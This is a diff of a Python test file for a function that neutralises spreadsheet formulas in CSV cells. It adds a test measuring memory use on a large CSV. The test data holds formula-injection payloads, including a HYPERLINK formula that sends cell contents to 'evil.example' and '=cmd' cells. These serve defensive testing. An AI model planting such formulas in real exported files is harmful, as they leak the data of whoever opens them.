@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
+from pathlib import Path
+
 import pyarrow as pa
 import pytest
 
 from core.csv_cells import FORMULA_STARTS, neutralise_cell, neutralise_csv, neutralise_table
+
+ROOT = Path(__file__).resolve().parents[2]
 
 CASES = [
     ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
@@ -135,3 +141,25 @@ def test_lists_structs_maps_and_bytes_become_text_a_csv_can_hold():
         '"[""a"", ""b""]","{""k"": 1, ""v"": ""x""}","00ff",-5',
         ',"{""k"": 2, ""v"": ""=cmd""}",,3',
     ]
+
+
+def test_a_large_csv_is_checked_without_holding_its_rows(tmp_path):
+    """Held as a list of rows, a 49 MB CSV of short cells took 1.4 GB of the bot's memory (a model
+    can attach one, under the 50 MB limit). Read row by row: an 8 MB one adds under 3x its size,
+    where the list of rows added over 10x (measured in a fresh process: the test's own heap aside)."""
+    script = tmp_path / "peak.py"
+    script.write_text(
+        "import resource\n"
+        "from core.csv_cells import neutralise_csv\n"
+        "row = ','.join(['ab'] * 1000) + '\\n'\n"
+        "data = ('=cmd(),' + row).encode() + row.encode() * (8 * 2**20 // len(row))\n"
+        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        "out = neutralise_csv(data)\n"
+        'assert out.startswith(b"\'=cmd(),ab") and len(out) == len(data) + 1\n'
+        "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024 / len(data))\n"
+    )
+    done = subprocess.run(
+        [sys.executable, str(script)], capture_output=True, text=True, cwd=ROOT, timeout=120
+    )
+    assert done.returncode == 0, done.stderr
+    assert float(done.stdout) < 3, done.stdout
